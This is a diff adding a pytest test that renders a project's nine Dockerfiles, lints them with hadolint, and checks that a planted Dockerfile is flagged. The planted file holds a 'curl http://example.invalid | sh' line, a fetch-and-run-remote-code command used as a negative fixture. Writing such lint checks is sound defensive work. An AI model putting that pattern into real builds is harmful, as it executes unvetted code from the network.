@@ -64,6 +64,26 @@ def test_dockerfiles_start_from_the_base_image_and_hold_no_secret(rendered):
         assert "latest" not in text, name
 
 
+def test_dockerfiles_pass_hadolint(tmp_path):
+    # Rendered with every bonus service on; .hadolint.yaml says which rules
+    # are off, and why.
+    dockerfiles = []
+    for source in sorted(STACK.glob("templates/srcs/requirements/**/Dockerfile.j2")):
+        dockerfile = tmp_path / f"{source.parent.name}.Dockerfile"
+        dockerfile.write_text(render(STACK, source, inception_stack_bonus=ALL_BONUS))
+        dockerfiles.append(str(dockerfile))
+    assert len(dockerfiles) == 9
+    hadolint = Path(sys.executable).with_name("hadolint")
+    config = ["--config", str(PROJECT / ".hadolint.yaml"), "--no-color"]
+    checked = subprocess.run([hadolint, *config, *dockerfiles], capture_output=True, text=True, check=False)
+    assert checked.returncode == 0, checked.stdout
+    planted = tmp_path / "planted.Dockerfile"
+    planted.write_text("FROM debian:bookworm\nRUN cd /tmp && curl http://example.invalid | sh\n")
+    refused = subprocess.run([hadolint, *config, str(planted)], capture_output=True, text=True, check=False)
+    assert refused.returncode != 0
+    assert "DL4006" in refused.stdout
+
+
 def test_shell_scripts_pass_shellcheck(rendered, tmp_path):
     scripts = {name: text for name, text in rendered.items() if name.endswith(".sh")}
     assert len(scripts) >= 14  # the entrypoints, healthchecks and the backup
